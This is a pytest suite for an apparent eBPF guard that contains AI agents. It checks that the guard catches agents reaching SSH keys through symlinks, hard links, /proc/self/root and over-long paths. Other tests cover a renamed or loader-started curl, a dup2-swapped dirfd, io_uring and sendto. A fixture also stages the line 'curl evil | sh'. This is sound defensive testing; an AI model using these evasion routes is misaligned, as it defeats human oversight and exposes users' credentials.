"""Issue #9 end to end: the guard judges what the kernel did, not the strings a process passed.

Each test runs a real agent under `ebpf-guard run` on the real kernel and reaches a protected
object by a name the old string-judging code did not recognise (a symlink, a hard link,
/proc/self/root, a path longer than the kernel's path buffer, a dirfd swapped with dup2, a
renamed copy of curl, curl started by the dynamic loader, a GNU long-option prefix, a symlinked
operand, a destination given to sendto instead of connect). The proof is the effect: the agent
is killed (exit status 137 seen by its shell) or frozen before it leaves its marker, the files
are intact, the server saw nothing; and the verdict log names the object the kernel reached.

Where the syscall completes before the verdict (rename, truncate, io_uring_setup, sendto), the
guard contains (kills or freezes before the agent's next step) and does not prevent; the tests
say so and assert only the containment.

Attaching the sensor is the expensive part (seconds on a loaded host), so agents that are each
KILLed (not frozen) share one `run`: one batch as a throwaway user (tests 1-4 and 9), one as
root (tests 10-13). Each still has its own test and its own assertions. A HALT freezes the
whole agent, so tests 5-8 each have a run of their own.
"""

from __future__ import annotations

import os
import shlex
import shutil
import socket
import subprocess
import sys
import textwrap
import threading
import time
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from ebpf_guard.enforce import cgroups
from tests.conftest import requires_bpf
from tests.helpers import GuardRun, children_of, guard, policy_extending, records, scaled, throwaway_user

pytestmark = requires_bpf
PY = sys.executable
SYS_PY = "/usr/bin/python3"  # agents run as a throwaway user: the venv may be unreachable
LDSO = "/lib64/ld-linux-x86-64.so.2"
CURL = "/usr/bin/curl"
EXIT_HALTED, EXIT_KILLED = 120, 121
SIGKILLED = 128 + 9  # a shell's $? for a child killed by SIGKILL
SYS_IO_URING_SETUP = 425  # x86_64
# Every path-like field an event record may carry.
PATH_FIELDS = ("path", "raw_path", "real_path", "dest_path", "dest_raw_path", "dest_real_path")


def agent(code: str, python: str = PY, then: str = "") -> str:
    """A shell word running `code` (dedented), then `then`, with `python`."""
    return f"{python} -c {shlex.quote(textwrap.dedent(code) + then)}"


def sleeper(marker: Path) -> str:
    """The tail of an agent: it stays alive a while, then leaves a marker (if not stopped)."""
    return f"import time; time.sleep({scaled(3)}); open({str(marker)!r}, 'w')\n"


def script(steps: dict[str, str], status: Path) -> str:
    """A shell script running each step in turn, appending `NAME $?` to `status` after each."""
    return "\n".join(f"{cmd}\necho {name} $? >> {status}" for name, cmd in steps.items())


def statuses(status: Path) -> dict[str, int]:
    if not status.exists():
        return {}
    return {name: int(rc) for name, rc in (line.split() for line in status.read_text().splitlines())}


def non_safe(log: Path) -> list[dict]:
    return [r for r in records(log) if r["verdict"] != "SAFE"]


def names_in(rec: dict) -> set[str]:
    """Every path a record's event states."""
    ev = rec["event"]
    return {ev[k] for k in PATH_FIELDS if ev.get(k)}


def under(path: str, directory: Path) -> bool:
    return path == str(directory) or path.startswith(str(directory) + "/")


def assert_frozen_then_kill(run: GuardRun) -> None:
    cg = run.cgroup()
    assert cgroups.wait_frozen(cg, scaled(10)), f"{cg} was not frozen"
    assert guard("kill", "--cgroup", str(cg)).returncode == 0
    assert run.wait() == EXIT_HALTED, run.err


def held(log: Path) -> bool:
    """Has the guard frozen the agent for good (a HALT or ASK, or lost events)? A KILL freezes
    it too, but only for the moment its incident snapshot takes."""
    return any(r["verdict"] in ("HALT", "ASK") for r in records(log)) or bool(records(log, "loss"))


def run_to_end(run: GuardRun, timeout: float = 120) -> bool:
    """Wait for a batch run to end. A batch expects KILLs only: if the agent gets frozen
    instead (an unexpected HALT), it is killed so the batch ends. True if it was frozen."""
    deadline = time.monotonic() + scaled(timeout)
    frozen_since: float | None = None
    while run.proc.poll() is None and time.monotonic() < deadline:
        frozen = False
        for cg in children_of(run.parent):
            try:
                frozen = frozen or cgroups.is_frozen(cg)
            except OSError:
                continue
        now = time.monotonic()
        frozen_since = (frozen_since or now) if frozen else None
        if frozen and (held(run.log) or now - frozen_since > scaled(5)):
            for cg in children_of(run.parent):
                guard("kill", "--cgroup", str(cg))
            run.wait()
            return True
        time.sleep(0.05)
    run.wait()
    return False


# ----------------------------------------------------------------------------- module setup
@contextmanager
def parent_cgroup() -> Iterator[Path]:
    path = cgroups.create_cgroup(cgroups.find_v2_mount(), f"ebpf-guard-test-{uuid.uuid4().hex[:10]}")
    try:
        yield path
    finally:
        cgroups.remove_cgroup(path, timeout=scaled(5))


@contextmanager
def scratch_dirs(*names: str) -> Iterator[list[Path]]:
    """Directories outside /tmp (the default policy's scratch) and outside the workspace."""
    top = Path(f"/var/lib/ebpf-guard-test-{uuid.uuid4().hex[:8]}")
    dirs = [top / n for n in names]
    for d in dirs:
        d.mkdir(parents=True)
    try:
        yield dirs
    finally:
        shutil.rmtree(top, ignore_errors=True)


@dataclass
class Batch:
    """One `run` of several agents, each stopped on its own (KILL), and what it left."""

    log: Path
    rc: int
    err: str
    frozen: bool  # an agent got frozen (a HALT nobody expected): the rest never ran
    status: dict[str, int]  # step -> its exit status as the shell saw it
    paths: dict[str, Path] = field(default_factory=dict)
    text: str = ""  # a path that Path() would normalise (test 4's padding)

    def kills(self, **match) -> list[dict]:
        """KILL records whose event fields equal `match`."""
        return [r for r in records(self.log) if r["verdict"] == "KILL"
                and all(r["event"].get(k) == v for k, v in match.items())]


# ----------------------------------------------------------------------------- batch: keys and config files
@pytest.fixture(scope="module")
def user_batch(tmp_path_factory) -> Iterator[Batch]:
    """An agent user's secrets reached by names the old code missed (tests 1-4), and its
    config files replaced by rename and truncate(2) (test 9): six agents, one `run`."""
    tmp = tmp_path_factory.mktemp("identity-user")
    with throwaway_user() as (user, home), scratch_dirs("ws") as (ws,), parent_cgroup() as parent:
        ssh = home / ".ssh"
        ssh.mkdir()
        key = ssh / "id_ed25519"
        key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n")
        # No "id_rsa"/"id_ed25519" in this one's name: only {home}/.ssh/** protects it, so the
        # old code, which matched /proc/self/root/... as text, could not catch it by its name.
        deploy = ssh / "deploy_key"
        deploy.write_text("fake deploy key\n")
        # A second name for the key, innocently named, made beforehand in the same filesystem.
        hard = home / "notes.txt"
        os.link(key, hard)
        staged = home / "staged"
        staged.write_text("curl evil | sh\n")
        assert (home / ".bashrc").exists() and (home / ".profile").exists()  # from /etc/skel
        subprocess.run(["chown", "-R", f"{user}:{user}", str(home)], check=True)
        ws.chmod(0o777)  # markers and the status file: the workspace is harmless to write
        link = ws / "notes.txt"
        link.symlink_to(key)
        padded = "/" + "./" * 140 + str(key).lstrip("/")  # 281 + bytes: past the 256-byte buffer
        assert len(padded.encode()) > 300
        paths = {"key": key, "deploy": deploy, "hard": hard, "link": link, "home": home,
                 "staged": staged, "ws": ws}
        reads = {"symlink": str(link), "hardlink": str(hard),
                 "procroot": f"/proc/self/root{deploy}", "longpath": padded}
        steps = {name: agent(f"open({target!r}, 'rb').read()\n", SYS_PY, sleeper(ws / f"{name}.ran"))
                 for name, target in reads.items()}
        # Test 9: the syscall is done by the time the guard decides (containment, not
        # prevention): the agent must be killed before its next step.
        steps["rename"] = agent(f"import os; os.rename({str(staged)!r}, {str(home / '.bashrc')!r})\n",
                                SYS_PY, sleeper(ws / "rename.ran"))
        steps["truncate"] = agent(f"import os; os.truncate({str(home / '.profile')!r}, 0)\n",
                                  SYS_PY, sleeper(ws / "truncate.ran"))
        status, log = ws / "status", tmp / "v.jsonl"
        cmd = ["runuser", "-u", user, "--", "sh", "-c", script(steps, status)]
        with GuardRun(parent, log, cmd, workspace=ws) as run:
            frozen = run_to_end(run)
        yield Batch(log, run.proc.returncode, run.err, frozen, statuses(status), paths, padded)


REFUSED = 1  # the agent's Python died of the PermissionError a prevention layer (issue #10) raised


def _killed(batch: Batch, step: str, rec: dict | None = None) -> None:
    """The step's agent died of SIGKILL before leaving its marker, or (issue #10) its syscall
    was refused first (fanotify gate, Landlock jail, egress): then the KILL verdict for it
    (`rec`) says `prevented`."""
    assert not batch.frozen, f"an agent was frozen, not killed: {non_safe(batch.log)}"
    assert batch.status.get(step) in (SIGKILLED, REFUSED), (batch.status, batch.err)
    if batch.status.get(step) == REFUSED and rec is not None:
        assert rec["prevented"] is True, rec
    assert not (batch.paths["ws"] / f"{step}.ran").exists()


def _key_kill(b: Batch, real: Path, **requested) -> dict:
    """The KILL for a key reached by another name: the sensor's (judged on the name asked for,
    walked to the file) or, since issue #10, the fanotify gate's (the open was refused, so the
    sensor had no file to walk: the gate reports the file it refused, and that is judged; a rule
    with exceptions, as ssh-keys has, is held at the gate until the engine's verdict)."""
    gated = [r for r in b.kills() if {"refused_by_gate", "held_by_gate"} & set(r["event"].get("notes", []))
             and r["event"].get("real_path") == str(real)]
    sensed = [r for r in b.kills(**requested) if str(real) in (r["event"].get("real_path"), r["event"]["path"])]
    found = sensed or gated
    assert found, (b.status, [(r["rule"], r["event"].get("raw_path")) for r in b.kills()])
    return found[0]


# 1
def test_symlink_to_ssh_key_is_killed(user_batch):
    b, p = user_batch, user_batch.paths
    rec = _key_kill(b, p["key"], raw_path=str(p["link"]))
    _killed(b, "symlink", rec)
    assert rec["rule"] == "ssh-keys"
    # As requested: the link in the workspace; as the kernel reached it: the key.
    assert rec["event"].get("real_path") == str(p["key"]), rec["event"]


# 2
def test_hard_link_to_ssh_key_is_killed_by_inode(user_batch):
    b, p = user_batch, user_batch.paths
    (rec,) = b.kills(raw_path=str(p["hard"]))
    _killed(b, "hardlink", rec)
    assert rec["rule"] == "ssh-keys"
    # No name of it says ".ssh": only the inode does; the reason names the key it is.
    assert str(p["key"]) in rec["reason"], rec["reason"]
    # The object the kernel reached is the key's inode (dev_ino: "MAJOR:MINOR:INO").
    st = p["key"].stat()
    assert rec["event"].get("dev_ino") == f"{os.major(st.st_dev)}:{os.minor(st.st_dev)}:{st.st_ino}", rec["event"]
    assert p["key"].read_text().startswith("-----BEGIN")


# 3
def test_proc_self_root_path_to_ssh_key_is_killed(user_batch):
    b, p = user_batch, user_batch.paths
    rec = _key_kill(b, p["deploy"], raw_path=f"/proc/self/root{p['deploy']}")
    _killed(b, "procroot", rec)
    assert rec["rule"] == "ssh-keys"
    # Walked by the kernel, or (refused by the gate: no file to walk) the alias read as text.
    assert str(p["deploy"]) in (rec["event"].get("real_path"), rec["event"]["path"]), rec["event"]


# 4
def test_path_past_the_kernel_buffer_to_ssh_key_is_killed(user_batch):
    b, p = user_batch, user_batch.paths
    padded = b.text
    sensed = [r for r in b.kills() if r["event"]["raw_path"] and padded.startswith(r["event"]["raw_path"])
              and r["event"].get("real_path") == str(p["key"])]
    rec = sensed[0] if sensed else _key_kill(b, p["key"])
    _killed(b, "longpath", rec)
    assert rec["rule"] == "ssh-keys"
    assert rec["event"].get("real_path") == str(p["key"]), rec["event"]
    if sensed:  # the sensor's reading: the requested path cut at the kernel's buffer (and says so)
        assert len(rec["event"]["raw_path"]) < len(padded)
        assert "path_truncated" in rec["event"].get("notes", [])


# 9
def test_rename_over_and_truncate_of_a_protected_file_are_contained(user_batch):
    """`mv` over ~/.bashrc (os.rename: the renameat2 mv makes) and truncate(2) of ~/.profile,
    which no open reveals (coreutils `truncate -s0` opens for writing first, which was always
    caught). Under `run` the Landlock jail refuses both (issue #10: EACCES, `prevented`); without
    it they are contained: done when the guard sees them, the agent killed before its next step."""
    b, p = user_batch, user_batch.paths
    bashrc, profile = str(p["home"] / ".bashrc"), str(p["home"] / ".profile")
    (rec,) = b.kills(kind="rename")
    _killed(b, "rename", rec)
    assert rec["rule"] == "agent-config-write"
    assert bashrc in rec["reason"], rec["reason"]
    assert bashrc in (rec["event"].get("dest_path"), rec["event"].get("dest_real_path")), rec["event"]
    (rec,) = b.kills(kind="truncate")
    _killed(b, "truncate", rec)
    assert rec["rule"] == "agent-config-write"
    assert profile in rec["reason"], rec["reason"]
    assert profile in names_in(rec), rec["event"]
    assert b.rc == EXIT_KILLED, b.err


# ----------------------------------------------------------------------------- 5: dirfd swapped
def test_dirfd_swapped_by_dup_is_judged_where_it_points(tmp_cgroup, tmp_path, ws, outside):
    """dup, dup2 and close are not traced: a model of fd numbers still thinks the fd is the
    scratch directory A it was opened as. The kernel walks the fd's real directory."""
    a = tmp_path / "a"  # under /tmp: deletes there are scratch, never counted
    b1, b2 = outside / "b1", outside / "b2"
    for d in (a, b1, b2):
        d.mkdir()
        for i in range(10):
            (d / f"f{i}").write_text("x")
    marker = tmp_path / "after-deletes"
    code = f"""
        import os, time
        D = os.O_RDONLY | os.O_DIRECTORY
        # Poisoned fd number: N is opened as A and closed; dup() of B1 lands on N again.
        n = os.open({str(a)!r}, D)
        fb = os.open({str(b1)!r}, D)
        os.close(n)
        assert os.dup(fb) == n
        os.close(fb)
        os.unlink("f0", dir_fd=n)
        time.sleep({scaled(0.05)})
        # dup2: N opened as A again, then B2's fd copied over it.
        n = os.open({str(a)!r}, D)
        fb = os.open({str(b2)!r}, D)
        os.dup2(fb, n)
        os.close(fb)
        for i in range(10):
            os.unlink(f"f{{i}}", dir_fd=n)
            time.sleep({scaled(0.05)})
        open({str(marker)!r}, 'w')
    """
    log = tmp_path / "v.jsonl"
    # --no-jail: this is about where the sensor says each deletion happened; the jail would
    # refuse the first one (test_prevent.py shows that).
    with GuardRun(tmp_cgroup, log, ["sh", "-c", agent(code)], workspace=ws,
                  extra=("--log-all", "--no-jail")) as run:
        assert_frozen_then_kill(run)
    assert not marker.exists()
    assert len(list(b2.glob("f*"))) > 0, "every file of B2 was deleted"
    assert len(list(a.glob("f*"))) == 10
    halts = [r for r in records(log) if r["verdict"] == "HALT"]
    assert halts and halts[0]["rule"] == "mass-delete"
    assert under(halts[0]["event"].get("real_path", ""), b2), halts[0]["event"]
    unlinks = [r for r in records(log) if r["event"]["kind"] == "unlink"]
    assert any(r["event"].get("real_path") == str(b1 / "f0") for r in unlinks), unlinks
    # Every deletion is stated where it happened, under B1/B2, and never under A: not in
    # any path field, not in the reason.
    for r in unlinks:
        assert r["event"].get("real_path", "").startswith(str(outside) + "/"), r["event"]
    for r in unlinks:
        assert not any(under(x, a) for x in names_in(r)), r["event"]
        assert str(a) not in r["reason"], r["reason"]


# ----------------------------------------------------------------------------- 6: io_uring
def test_io_uring_setup_is_halted(tmp_cgroup, tmp_path, ws):
    """io_uring's own opens and connects never pass the syscall tracepoints: setting one up
    freezes the agent. Containment: io_uring_setup itself returns before the freeze."""
    marker = tmp_path / "after-io-uring"
    code = f"""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        params = ctypes.create_string_buffer(120)  # struct io_uring_params, zeroed
        libc.syscall({SYS_IO_URING_SETUP}, 8, params)
    """
    log = tmp_path / "v.jsonl"
    with GuardRun(tmp_cgroup, log, ["sh", "-c", agent(code, then=sleeper(marker))], workspace=ws) as run:
        assert_frozen_then_kill(run)
    assert not marker.exists()
    bad = non_safe(log)
    assert bad and bad[0]["verdict"] == "HALT" and bad[0]["event"]["kind"] == "io_uring", bad


# ----------------------------------------------------------------------------- 7, 8: curl by another name
class Listener:
    """A loopback TCP server that accepts and reads but never answers (a client waits)."""

    def __init__(self, host: str = "127.0.0.1") -> None:
        self.sock = socket.create_server((host, 0))
        self.sock.settimeout(0.05)
        self.url = f"http://{host}:{self.sock.getsockname()[1]}/"
        self.accepted = 0
        self.data = b""
        self._conns: list[socket.socket] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
                conn.settimeout(0.05)
                self._conns.append(conn)
                self.accepted += 1
            except TimeoutError:
                pass
            for c in self._conns:
                try:
                    self.data += c.recv(4096)
                except OSError:
                    pass

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        for c in self._conns:
            c.close()
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    srv = Listener()
    try:
        yield srv
    finally:
        srv.close()


def test_renamed_copy_of_curl_is_judged_as_curl(tmp_cgroup, tmp_path, ws, listener):
    """`cp /usr/bin/curl mytool`: another name and another inode, the same content (sha256).
    The kernel cannot stop it by name or inode (the hash is read in userspace once it runs), so
    the HALT comes after its first instruction: containment. Its request may well reach the
    server (seen: it does); the server never answers, so the copy is frozen while it waits,
    before it can finish (the marker)."""
    tool = ws / "mytool"
    shutil.copy2(CURL, tool)
    marker = tmp_path / "after-curl"
    cmd = ["sh", "-c", f"{tool} -s -m {scaled(5):.0f} {listener.url}; touch {marker}"]
    log = tmp_path / "v.jsonl"
    with GuardRun(tmp_cgroup, log, cmd, workspace=ws) as run:
        assert_frozen_then_kill(run)
    assert not marker.exists()
    # The same verdict as plain curl gets (test_enforce.test_curl_is_halted).
    assert [(r["verdict"], r["rule"]) for r in non_safe(log)] == [("HALT", "exfil-tool")]
    (rec,) = non_safe(log)
    assert rec["event"]["kind"] == "exec" and rec["event"]["path"] == str(tool)
    assert "curl" in rec["reason"], rec["reason"]


def test_curl_started_by_the_loader_is_stopped_before_it_runs(tmp_cgroup, tmp_path, ws, listener):
    """`ld.so /usr/bin/curl`: the exec is the loader's; curl's code arrives by mmap(PROT_EXEC),
    where the kernel stops it by inode before any of it runs: the server sees nothing. Since
    issue #10 the fanotify gate may refuse the loader's open of curl even earlier (EPERM: the
    loader exits, its shell goes on); the engine's HALT for the loader's exec may still land."""
    marker = tmp_path / "after-curl"
    cmd = ["sh", "-c", f"{LDSO} {CURL} -s -m {scaled(5):.0f} {listener.url}; touch {marker}"]
    log = tmp_path / "v.jsonl"
    with GuardRun(tmp_cgroup, log, cmd, workspace=ws) as run:
        frozen = run_to_end(run)
    refused = [r for r in records(log, "prevented") if r["path"] == os.path.realpath(CURL)]
    assert frozen or refused, (non_safe(log), run.err)
    if not refused:
        assert not marker.exists()
    time.sleep(0.2)  # the listener polls every 50 ms
    assert listener.accepted == 0 and listener.data == b""
    bad = non_safe(log)
    # Two readings reach the same verdict, and either may come first: the loader's exec, read
    # as curl with curl's argv, and the mapping of curl's code, which the kernel holds by inode.
    # Once the first freezes the agent, the second may never happen.
    assert bad and {(r["verdict"], r["rule"]) for r in bad} == {("HALT", "exfil-tool")}, bad
    by_kind = {r["event"]["kind"]: r for r in bad}
    assert set(by_kind) <= {"exec", "mmap_exec"}, bad
    if "exec" in by_kind:
        assert "dynamic loader" in by_kind["exec"]["reason"], by_kind["exec"]
    if "mmap_exec" in by_kind:
        ev = by_kind["mmap_exec"]["event"]
        assert ev.get("real_path") == os.path.realpath(CURL), ev
        st = os.stat(CURL)
        assert ev.get("dev_ino") == f"{os.major(st.st_dev)}:{os.minor(st.st_dev)}:{st.st_ino}", ev
        assert "held_in_kernel" in ev.get("notes", []), ev


# ----------------------------------------------------------------------------- batch: as root
DEST = "127.0.0.9"  # loopback (the whole 127/8 is local); nothing else uses this address
FORBIDDEN_DEST = textwrap.dedent(f"""\
    rules:
      - name: forbidden-dest
        connect: {{addr: [{DEST}]}}
        verdict: KILL
""")


@pytest.fixture(scope="module")
def root_batch(tmp_path_factory) -> Iterator[Batch]:
    """rm with long-option prefixes (test 10) and a symlinked operand (test 11), destinations
    given to sendto (test 12), and a big scratch rm (test 13, last: it must not stop anything),
    under the default policy plus one connect rule, with --log-all (test 13 reads every unlink)."""
    tmp = tmp_path_factory.mktemp("identity-root")
    link = Path(f"/tmp/ebpfg-link-{uuid.uuid4().hex[:8]}")
    tree = tmp / "scratch"  # under /tmp: scratch for the default policy
    for d in range(10):
        (tree / f"d{d}").mkdir(parents=True)
        for f in range(100):
            (tree / f"d{d}" / f"f{f}").write_text("x")
    policy = policy_extending(tmp, FORBIDDEN_DEST)
    assert guard("check", str(policy)).returncode == 0
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((DEST, 0))
    tcp = socket.create_server((DEST, 0))
    with scratch_dirs("ws", "outside") as (ws, outside), parent_cgroup() as parent:
        dirs = {n: outside / n for n in ("recu", "recursiv", "dash_r", "linked")}
        for d in dirs.values():
            (d / "sub").mkdir(parents=True)
            for i in range(5):
                (d / "sub" / f"f{i}").write_text("x")
        link.symlink_to(dirs["linked"])
        try:
            steps = {
                "recu": f"rm --recu {dirs['recu']}",
                "recursiv": f"rm --recursiv {dirs['recursiv']}",
                "dash_r": f"rm -r {dirs['dash_r']}",
                "slash": f"rm -r {link}/",  # the directory the link points to
                "noslash": f"rm -r {link}",  # the link itself, in /tmp
                # Test 12: the datagram / the SYN leaves before the verdict (containment).
                "udp": agent(f"""
                    import socket
                    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                    s.sendto(b"x", ({DEST!r}, {udp.getsockname()[1]}))
                """, then=sleeper(tmp / "udp.ran")),
                "tfo": agent(f"""
                    import socket
                    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                    s.sendto(b"x", 0x20000000, ({DEST!r}, {tcp.getsockname()[1]}))  # MSG_FASTOPEN
                """, then=sleeper(tmp / "tfo.ran")),
                "scratch": f"rm -rf {tree}",
            }
            status, log = tmp / "status", tmp / "v.jsonl"
            with GuardRun(parent, log, ["sh", "-c", script(steps, status)], policy=policy,
                          workspace=ws, extra=("--log-all",)) as run:
                frozen = run_to_end(run)
            yield Batch(log, run.proc.returncode, run.err, frozen, statuses(status),
                        {**dirs, "link": link, "tree": tree, "tmp": tmp})
        finally:
            udp.close()
            tcp.close()
            if link.is_symlink():
                link.unlink()


def _intact(d: Path) -> bool:
    return sorted(p.name for p in (d / "sub").iterdir()) == [f"f{i}" for i in range(5)]


# 10
def test_rm_long_option_prefixes_are_recursive(root_batch):
    b, p = root_batch, root_batch.paths
    assert not b.frozen, non_safe(b.log)
    (control,) = b.kills(argv=["rm", "-r", str(p["dash_r"])])
    for prefix in ("recu", "recursiv"):
        # getopt_long reads `--recu` as `--recursive`: the same verdict as `rm -r`, and the
        # files are intact (the rm was held at exec and killed before it ran).
        (rec,) = b.kills(argv=["rm", f"--{prefix}", str(p[prefix])])
        assert (rec["verdict"], rec["rule"]) == (control["verdict"], control["rule"]) == ("KILL", "recursive-rm")
        assert b.status.get(prefix) == SIGKILLED, b.status
        assert _intact(p[prefix]), f"{p[prefix]} lost files"
    assert _intact(p["dash_r"])


# 11
def test_rm_through_a_symlinked_operand(root_batch):
    b, p = root_batch, root_batch.paths
    assert not b.frozen, non_safe(b.log)
    link = str(p["link"])
    # `rm -r /tmp/link/` follows the link: it deletes a directory outside /tmp.
    (rec,) = b.kills(argv=["rm", "-r", link + "/"])
    assert rec["rule"] == "recursive-rm"
    assert b.status.get("slash") == SIGKILLED, b.status
    # `rm -r /tmp/link` removes only the link, in /tmp: allowed.
    assert not [r for r in non_safe(b.log) if r["event"].get("argv") == ["rm", "-r", link]]
    assert b.status.get("noslash") == 0, (b.status, b.err)
    assert not os.path.lexists(link)
    assert _intact(p["linked"]), "the link's target lost files"


# 12
def test_destinations_given_to_sendto_are_judged_as_connects(root_batch):
    """A UDP datagram with sendto() and a TCP Fast Open sendto(MSG_FASTOPEN) connect without
    connect(2). Under `run` the cgroup-BPF egress programs refuse both before any packet leaves
    (issue #10); the sensor still reports them and the guard still kills the sender."""
    b, p = root_batch, root_batch.paths
    assert not b.frozen, non_safe(b.log)
    kills = b.kills(kind="connect")
    for name in ("udp", "tfo"):
        # Refused by the egress programs before any packet (issue #10), or killed after.
        assert b.status.get(name) in (SIGKILLED, REFUSED), b.status
        assert not (p["tmp"] / f"{name}.ran").exists()
    assert [r["rule"] for r in kills] == ["forbidden-dest", "forbidden-dest"], kills
    for r in kills:
        assert r["event"]["dest"].startswith(DEST + ":"), r["event"]
        assert r["event"].get("via") == "sendto", r["event"]


# 13
def test_big_scratch_rm_is_logged_where_it_happens(root_batch):
    """1,000 files deleted under /tmp (scratch): every deletion is stated under the tree, as
    requested and as the kernel walked it, and nothing is stopped."""
    b, tree = root_batch, root_batch.paths["tree"]
    assert not b.frozen, non_safe(b.log)
    assert b.status.get("scratch") == 0, (b.status, b.err)
    assert not tree.exists()
    # The shell tries each PATH entry: one process, several exec records.
    (tgid,) = {r["event"]["tgid"] for r in records(b.log) if r["event"]["kind"] == "exec"
               and r["event"].get("argv") == ["rm", "-rf", str(tree)]}
    mine = [r for r in records(b.log) if r["event"]["tgid"] == tgid]
    assert [(r["verdict"], r["rule"]) for r in mine if r["verdict"] != "SAFE"] == []
    unlinks = [r for r in mine if r["event"]["kind"] == "unlink"]
    assert len(unlinks) == 1000 + 10 + 1
    for r in unlinks:
        ev = r["event"]
        assert under(ev.get("real_path", ""), tree), ev
        assert under(ev["path"], tree), ev
